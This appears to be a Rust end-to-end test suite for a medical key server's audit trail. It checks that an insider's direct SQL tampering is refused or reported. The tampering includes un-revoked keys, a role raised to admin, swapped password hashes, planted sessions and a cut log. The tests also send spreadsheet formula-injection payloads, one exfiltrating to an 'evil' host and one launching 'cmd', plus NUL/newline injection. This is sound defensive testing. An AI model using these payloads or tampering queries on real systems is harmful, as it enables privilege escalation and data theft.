//! The audit trail against an insider: someone with write access to the
//! database but not the keyring. Every edit below is made with real SQL on
//! the store, and each must be either refused when used (no key released,
//! no session accepted) or reported — by `audit verify`, by `audit verify
//! --checkpoint` against a checkpoint kept elsewhere, or by a witness.
//! Receipts from real fetches verify offline, and a changed byte or another
//! server's key makes them fail. On SQLite and PostgreSQL.

use std::path::Path;
use std::process::{Command, Output};

use medseal_e2e::{Backend, Client, KeyServer, both_backends, medseal_bin};
use serde_json::{Value, json};

both_backends!(
    edits_to_access_state_are_refused_at_use_and_reported,
    resetting_the_binding_or_stretching_a_session_is_refused,
    hostile_text_in_a_request_never_stops_the_log,
    a_row_put_back_whole_is_reported_by_verify,
    a_cut_tail_is_caught_by_a_saved_checkpoint_and_the_witness,
    receipts_verify_offline_and_fail_when_changed,
);

const ST: &str = "St Elsewhere";
const OTHER: &str = "Other Hospital";

fn hospital(backend: Backend) -> KeyServer {
    let mut ks = KeyServer::new(backend);
    ks.org(ST);
    ks.org(OTHER);
    ks.user(ST, "alice@st.example", "clinician", "alice-password-1");
    ks.user(ST, "mallory@st.example", "clinician", "mallory-password-1");
    ks.user(ST, "amy@st.example", "admin", "amy-password-1");
    ks.user(OTHER, "bob@other.example", "clinician", "bob-password-1");
    ks.start();
    ks
}

fn new_key(c: &Client, report: &str, recipients: &[&str]) -> String {
    let r = c.post(
        "/v1/keys",
        &json!({"report_id": report, "recipients": recipients}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    r.json["key_id"].as_str().unwrap().to_owned()
}

fn verify(ks: &KeyServer, extra: &[&str]) -> Output {
    let mut args = vec!["audit", "verify"];
    args.extend_from_slice(extra);
    ks.admin(&args)
}

fn assert_verify_fails(ks: &KeyServer, extra: &[&str], needle: &str) {
    let out = verify(ks, extra);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "went unnoticed: {needle}");
    assert!(err.contains(needle), "expected {needle:?} in: {err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

fn assert_verify_passes(ks: &KeyServer, extra: &[&str]) {
    let out = verify(ks, extra);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn events(ks: &KeyServer) -> Vec<Value> {
    let v: Value =
        serde_json::from_str(&ks.admin_ok(&["audit", "export", "--format", "json"])).unwrap();
    v["events"].as_array().unwrap().clone()
}

fn violations(ks: &KeyServer) -> usize {
    events(ks)
        .iter()
        .filter(|e| e["action"] == "integrity.violation")
        .count()
}

fn metric(ks: &KeyServer, name: &str) -> f64 {
    let text = reqwest::blocking::get(format!("{}/metrics", ks.base))
        .unwrap()
        .text()
        .unwrap();
    text.lines()
        .find(|l| l.starts_with(name))
        .and_then(|l| l.split_whitespace().last())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0)
}

/// A fresh store for each edit, so that each is shown to be caught on its
/// own (verify stops at the first problem).
fn edits_to_access_state_are_refused_at_use_and_reported(backend: Backend) {
    // 1. A revocation undone.
    let ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    let bob = ks.login("bob@other.example", "bob-password-1", "bob-laptop");
    let k = new_key(&alice, "wound-1", &["bob@other.example"]);
    assert_eq!(bob.get(&format!("/v1/keys/{k}")).status, 200);
    assert_eq!(
        alice
            .post(&format!("/v1/keys/{k}/revoke"), &json!({}))
            .status,
        204
    );
    assert_eq!(bob.get(&format!("/v1/keys/{k}")).status, 410);
    assert_verify_passes(&ks, &[]);
    ks.sql(&[&format!(
        "UPDATE data_keys SET revoked_at = NULL WHERE key_id = '{k}'"
    )]);
    let r = bob.get(&format!("/v1/keys/{k}"));
    assert_eq!(
        r.status, 409,
        "an un-revoked key must not be released: {}",
        r.body
    );
    assert_eq!(r.json["error"], "integrity_failure");
    assert!(r.json.get("key").is_none());
    assert!(metric(&ks, "medseal_keyserver_integrity_violations_total") >= 1.0);
    assert_eq!(violations(&ks), 1, "the refusal is audited");
    assert_verify_fails(
        &ks,
        &[],
        &format!("key {k} was changed outside the key server"),
    );

    // 2. A recipient inserted.
    let ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    let mallory = ks.login("mallory@st.example", "mallory-password-1", "m-phone");
    let k = new_key(&alice, "wound-2", &["bob@other.example"]);
    assert_eq!(mallory.get(&format!("/v1/keys/{k}")).status, 403);
    ks.sql(&[&format!(
        "INSERT INTO key_recipients (key_id, email) VALUES ('{k}', 'mallory@st.example')"
    )]);
    let r = mallory.get(&format!("/v1/keys/{k}"));
    assert_eq!(r.status, 409, "{}", r.body);
    assert!(r.json.get("key").is_none());
    // Nor can a legitimate change bless it.
    let add = alice.post(
        &format!("/v1/keys/{k}/recipients"),
        &json!({"recipients": ["carol@other.example"]}),
    );
    assert_eq!(add.status, 409, "{}", add.body);
    assert_verify_fails(&ks, &[], &format!("key {k} was changed"));

    // 3. A role raised: the account's sessions and sign-ins are refused.
    let ks = hospital(backend);
    let mallory = ks.login("mallory@st.example", "mallory-password-1", "m-phone");
    assert_eq!(mallory.get("/v1/audit").status, 403);
    ks.sql(&["UPDATE users SET role = 'admin' WHERE email = 'mallory@st.example'"]);
    let r = mallory.get("/v1/audit");
    assert_eq!(
        r.status, 401,
        "a raised role must not be honoured: {}",
        r.body
    );
    let fresh = Client::new(&ks.base, "m-laptop");
    let r = fresh.post(
        "/v1/sessions",
        &json!({"email": "mallory@st.example", "password": "mallory-password-1", "device_id": "m-laptop"}),
    );
    assert_eq!(r.status, 401, "{}", r.body);
    assert!(violations(&ks) >= 2, "both refusals audited");
    assert_verify_fails(&ks, &[], "user mallory@st.example was changed outside");

    // 4. A password hash swapped for one the insider knows.
    let ks = hospital(backend);
    ks.sql(&["UPDATE users SET password_hash = (SELECT password_hash FROM users WHERE email = 'mallory@st.example') WHERE email = 'amy@st.example'"]);
    let c = Client::new(&ks.base, "x");
    let r = c.post(
        "/v1/sessions",
        &json!({"email": "amy@st.example", "password": "mallory-password-1", "device_id": "x"}),
    );
    assert_eq!(r.status, 401, "{}", r.body);
    assert_verify_fails(&ks, &[], "user amy@st.example was changed outside");

    // 5. A session planted for a token the insider chose.
    let ks = hospital(backend);
    let token = "mst_planted-by-someone-with-the-database";
    let hash = hex::encode(sha2_256(token.as_bytes()));
    let literal = match backend {
        Backend::Sqlite => format!("X'{hash}'"),
        Backend::Postgres => format!("'\\x{hash}'::bytea"),
    };
    ks.sql(&[&format!(
        "INSERT INTO sessions (token_hash, user_id, device_id, created_at, last_seen, expires_at, revoked) \
         SELECT {literal}, id, 'evil', 0, 9999999999999, 9999999999999, FALSE FROM users WHERE email = 'amy@st.example'"
    )]);
    let mut planted = Client::new(&ks.base, "evil");
    planted.token = Some(token.to_owned());
    let r = planted.get("/v1/audit");
    assert_eq!(
        r.status, 401,
        "a planted session must not be accepted: {}",
        r.body
    );
    assert_eq!(violations(&ks), 1);
    assert_verify_fails(&ks, &[], "a session of user");
}

fn sha2_256(b: &[u8]) -> Vec<u8> {
    use sha2::Digest;
    sha2::Sha256::digest(b).to_vec()
}

/// The one edit a MAC cannot see: a whole row restored as it was before a
/// revocation (with its old, valid MAC). The log knows the key was revoked.
fn a_row_put_back_whole_is_reported_by_verify(backend: Backend) {
    let ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    let k = new_key(&alice, "wound-3", &["bob@other.example"]);
    ks.sql(&["CREATE TABLE stash AS SELECT * FROM data_keys"]);
    assert_eq!(
        alice
            .post(&format!("/v1/keys/{k}/revoke"), &json!({}))
            .status,
        204
    );
    ks.sql(&[&format!(
        "UPDATE data_keys SET revoked_at = NULL, state_mac = (SELECT state_mac FROM stash WHERE key_id = '{k}') WHERE key_id = '{k}'"
    )]);
    assert_verify_fails(
        &ks,
        &[],
        &format!("key {k} was revoked, but the store has it unrevoked"),
    );
}

fn witness(ks: &KeyServer, state: &Path) -> Output {
    Command::new(medseal_bin())
        .args(["audit", "witness", "--keyserver", &ks.base, "--state"])
        .arg(state)
        .output()
        .unwrap()
}

fn a_cut_tail_is_caught_by_a_saved_checkpoint_and_the_witness(backend: Backend) {
    let mut ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    let early = new_key(&alice, "early", &["bob@other.example"]);
    let n: i64 = events(&ks).len() as i64;
    let state = tempfile::tempdir().unwrap();
    let first = witness(&ks, state.path());
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    // More history, which the insider will cut.
    for i in 0..5 {
        new_key(&alice, &format!("late-{i}"), &["bob@other.example"]);
    }
    let seen = witness(&ks, state.path());
    assert!(
        seen.status.success(),
        "{}",
        String::from_utf8_lossy(&seen.stderr)
    );
    let saved = state.path().join("checkpoint.json");
    assert_verify_passes(&ks, &["--checkpoint", saved.to_str().unwrap()]);

    // The insider stops the server and makes the store consistent with
    // itself again: every event after `n`, the keys they created, the
    // checkpoints after `n`, and a head pointing at event `n`.
    ks.kill();
    ks.drop_append_only_guards();
    let empty_blob = match backend {
        Backend::Sqlite => "X''",
        Backend::Postgres => "''::bytea",
    };
    ks.sql(&[
        &format!("DELETE FROM key_recipients WHERE key_id <> '{early}'"),
        &format!("DELETE FROM data_keys WHERE key_id <> '{early}'"),
        &format!("DELETE FROM audit_events WHERE seq > {n}"),
        &format!("DELETE FROM audit_checkpoints WHERE size > {n}"),
        &format!(
            "UPDATE audit_head SET seq = {n}, hash = (SELECT hash FROM audit_events WHERE seq = {n}), frontier = {empty_blob}"
        ),
    ]);
    // Consistent with itself: the store alone cannot tell…
    assert_verify_passes(&ks, &[]);
    // …but the checkpoint kept elsewhere can, and so can the witness.
    assert_verify_fails(
        &ks,
        &["--checkpoint", saved.to_str().unwrap()],
        "events were removed",
    );
    ks.start();
    let caught = witness(&ks, state.path());
    let err = String::from_utf8_lossy(&caught.stderr);
    assert!(!caught.status.success(), "the witness missed a cut tail");
    assert!(err.contains("rollback") || err.contains("fork"), "{err}");

    // Everything deleted, head zeroed: the same.
    ks.kill();
    ks.sql(&[
        "DELETE FROM key_recipients",
        "DELETE FROM data_keys",
        "DELETE FROM sessions",
        "DELETE FROM login_windows",
        "DELETE FROM users",
        "DELETE FROM orgs",
        "DELETE FROM audit_events",
        "DELETE FROM audit_checkpoints",
        &format!("UPDATE audit_head SET seq = 0, frontier = {empty_blob}"),
    ]);
    let zero = match backend {
        Backend::Sqlite => "UPDATE audit_head SET hash = zeroblob(32)",
        Backend::Postgres => "UPDATE audit_head SET hash = decode(repeat('00', 32), 'hex')",
    };
    ks.sql(&[zero]);
    assert_verify_fails(
        &ks,
        &["--checkpoint", saved.to_str().unwrap()],
        "events were removed",
    );
}

fn receipts_verify_offline_and_fail_when_changed(backend: Backend) {
    let ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    let bob = ks.login("bob@other.example", "bob-password-1", "bob-laptop");
    let k = new_key(&alice, "wound-4", &["bob@other.example"]);
    let r = bob.get(&format!("/v1/keys/{k}"));
    assert_eq!(r.status, 200);
    let receipt = &r.json["receipt"];
    assert_eq!(receipt["event"]["action"], "key.fetched");
    assert_eq!(receipt["event"]["actor"], "bob@other.example");
    assert_eq!(receipt["event"]["key_id"], k.as_str());
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("fetch.json");
    std::fs::write(&file, &r.body).unwrap();
    let public_key = ks.admin_ok(&["audit", "public-key"]).trim().to_owned();
    let served: Value = reqwest::blocking::get(format!("{}/v1/audit/public-key", ks.base))
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(served["public_key"], public_key.as_str());
    let check = |path: &Path, key: &str| {
        Command::new(medseal_bin())
            .args(["audit", "check-receipt", "--public-key", key])
            .arg(path)
            .output()
            .unwrap()
    };
    let ok = check(&file, &public_key);
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(String::from_utf8_lossy(&ok.stdout).contains("receipt verified"));
    // The same with the key fetched from the server.
    let ok = Command::new(medseal_bin())
        .args(["audit", "check-receipt", "--keyserver", &ks.base])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );

    // One byte changed anywhere that matters: the event, the checkpoint, the
    // proof or the signature.
    let text = serde_json::to_string_pretty(receipt).unwrap();
    let targets = [
        "\"actor\": \"bob",
        "\"action\": \"key",
        "\"at_ms\": ",
        "\"root\": \"",
        "\"signature\": \"",
        "\"seq\": ",
        "\"size\": ",
    ];
    let mut changed = 0;
    for t in targets {
        let Some(at) = text.find(t) else { continue };
        let pos = at + t.len();
        let mut bytes = text.clone().into_bytes();
        bytes[pos] = match bytes[pos] {
            b'0'..=b'8' => bytes[pos] + 1,
            b'9' => b'1',
            b'a'..=b'y' => bytes[pos] + 1,
            b'A'..=b'Y' => bytes[pos] + 1,
            _ => b'a',
        };
        let bad = dir.path().join(format!("bad-{changed}.json"));
        std::fs::write(&bad, &bytes).unwrap();
        let out = check(&bad, &public_key);
        assert!(
            !out.status.success(),
            "a receipt changed at {t} still verified"
        );
        changed += 1;
    }
    if receipt["proof"].as_array().is_some_and(|p| !p.is_empty()) {
        let mut edited = receipt.clone();
        let h = edited["proof"][0].as_str().unwrap().to_owned();
        let flipped = format!("{}{}", if h.starts_with('0') { '1' } else { '0' }, &h[1..]);
        edited["proof"][0] = Value::String(flipped);
        let bad = dir.path().join("bad-proof.json");
        std::fs::write(&bad, serde_json::to_vec(&edited).unwrap()).unwrap();
        assert!(!check(&bad, &public_key).status.success());
        changed += 1;
    }
    assert!(changed >= 7, "the edits really ran: {changed}");
    // Another server's key.
    let other = KeyServer::new(Backend::Sqlite);
    other.org("Elsewhere");
    let other_key = other.admin_ok(&["audit", "public-key"]).trim().to_owned();
    assert_ne!(other_key, public_key);
    let out = check(&file, &other_key);
    assert!(!out.status.success());
    assert_eq!(out.status.code(), Some(4), "tampered");
    assert!(String::from_utf8_lossy(&out.stderr).contains("signature"));
}

/// Restoring an older backup "over" a running store: the server comes back
/// on the same address with yesterday's log. The witness, which saw today's,
/// says so; so does `audit verify --checkpoint` with what the witness kept.
#[test]
fn the_witness_detects_a_rollback_to_an_older_backup() {
    let mut ks = hospital(Backend::Sqlite);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    new_key(&alice, "before-backup", &["bob@other.example"]);
    let work = tempfile::tempdir().unwrap();
    let pw = medseal_e2e::write_file(
        work.path(),
        "backup-pw",
        b"the backup passphrase, kept apart",
    );
    let backup = work.path().join("ks-backup.mseal");
    ks.admin_ok(&[
        "backup",
        "--password-file",
        pw.to_str().unwrap(),
        backup.to_str().unwrap(),
    ]);
    let state = work.path().join("witness");
    let first = witness(&ks, &state);
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    // Today's work, which the backup does not hold; the witness sees it.
    for i in 0..3 {
        new_key(&alice, &format!("after-backup-{i}"), &["bob@other.example"]);
    }
    let seen = witness(&ks, &state);
    assert!(
        seen.status.success(),
        "{}",
        String::from_utf8_lossy(&seen.stderr)
    );
    assert!(String::from_utf8_lossy(&seen.stdout).contains("consistent"));

    // The older backup goes back in place and the server restarts on it.
    ks.kill();
    let mut old = ks.successor();
    medseal_e2e::ok(
        Command::new(medseal_bin())
            .args(["keyserver", "restore", "--password-file"])
            .arg(&pw)
            .arg("--data-dir")
            .arg(old.dir.path().join("data"))
            .arg(&backup)
            .output()
            .unwrap(),
    );
    old.start();
    // On its own the restored store is a consistent, older store…
    assert_verify_passes(&old, &[]);
    // …which the witness and the checkpoint it kept refuse.
    let caught = witness(&old, &state);
    let err = String::from_utf8_lossy(&caught.stderr);
    assert!(!caught.status.success(), "the witness missed a rollback");
    assert!(err.contains("rollback"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    let saved = state.join("checkpoint.json");
    assert_verify_fails(
        &old,
        &["--checkpoint", saved.to_str().unwrap()],
        "events were removed",
    );
}

/// The one-time binding of rows to the keyring cannot be triggered again to
/// have planted rows sealed; a session's bookkeeping cannot keep it alive.
fn resetting_the_binding_or_stretching_a_session_is_refused(backend: Backend) {
    let mut ks = hospital(backend);
    let mallory = ks.login("mallory@st.example", "mallory-password-1", "m-phone");
    // A session's last use moved into the far future would never go idle.
    ks.sql(&["UPDATE sessions SET last_seen = 9999999999999"]);
    assert_eq!(mallory.get("/v1/sessions/current").status, 401);

    // Planted: a raised role without a seal, and the binding flag reset so
    // that the next start would seal it.
    ks.kill();
    ks.sql(&[
        "UPDATE users SET role = 'admin', state_mac = NULL WHERE email = 'mallory@st.example'",
        "UPDATE audit_head SET state_bound = FALSE",
        "DELETE FROM audit_checkpoints",
    ]);
    let change = ks.admin(&["org", "add", "Third Hospital"]);
    let err = String::from_utf8_lossy(&change.stderr);
    assert!(!change.status.success(), "a reset binding was honoured");
    assert!(err.contains("binding flag was reset"), "{err}");
    assert_verify_fails(&ks, &[], "binding to its keyring was reset");
    // verify itself changes nothing: the planted row is still unsealed.
    assert_verify_fails(&ks, &[], "binding to its keyring was reset");
}

/// Text a client sends could land in events (an unknown key id, a device
/// id, an address): what is not well formed is refused or left out, so
/// nothing can stop the log (PostgreSQL refuses NUL in text, which would
/// fail a whole batch), forge a line, or run as a formula when an exported
/// CSV is opened in a spreadsheet.
fn hostile_text_in_a_request_never_stops_the_log(backend: Backend) {
    let ks = hospital(backend);
    let alice = ks.login("alice@st.example", "alice-password-1", "alice-phone");
    for path in [
        "/v1/keys/k_%00%0A%3DHYPERLINK(%22x%22)",
        "/v1/keys/=1+cmd|%22%2FC%20calc%22!A0",
    ] {
        let r = alice.get(path);
        assert_eq!(r.status, 404, "{}", r.body);
    }
    // A formula as a device id, and as an address, are refused before
    // anything is counted or recorded.
    let c = Client::new(&ks.base, "x");
    let r = c.post(
        "/v1/sessions",
        &json!({"email": "alice@st.example", "password": "x", "device_id": "=HYPERLINK(\"https://evil/?d=\"&C2;\"Verify\")"}),
    );
    assert_eq!(r.status, 400, "{}", r.body);
    let r = c.post(
        "/v1/sessions",
        &json!({"email": "=HYPERLINK(\"x\")@evil", "password": "x", "device_id": "x"}),
    );
    assert_eq!(r.status, 400, "{}", r.body);
    // An address that is valid but starts like a formula is recorded, and
    // exported as text.
    let r = c.post(
        "/v1/sessions",
        &json!({"email": "=cmd@evil.example", "password": "x", "device_id": "x"}),
    );
    assert_eq!(r.status, 401, "{}", r.body);
    // The log still takes changes…
    new_key(&alice, "after-nul", &["bob@other.example"]);
    // …and kept the refusals without the client's text.
    let denied: Vec<Value> = events(&ks)
        .into_iter()
        .filter(|e| e["action"] == "key.denied")
        .collect();
    assert_eq!(denied.len(), 2);
    for d in &denied {
        assert!(d["key_id"].is_null(), "{d}");
        assert_eq!(d["detail"], "malformed key id");
    }
    let csv = ks.admin_ok(&["audit", "export", "--format", "csv"]);
    assert!(csv.contains("'=cmd@evil.example"), "{csv}");
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {line}"
            );
        }
    }
    assert_verify_passes(&ks, &[]);
    // Proofs of trees the log does not have are refused at once.
    let huge = reqwest::blocking::get(format!(
        "{}/v1/audit/consistency?from=1&to=18446744073709551615",
        ks.base
    ))
    .unwrap();
    assert_eq!(huge.status().as_u16(), 404);
}
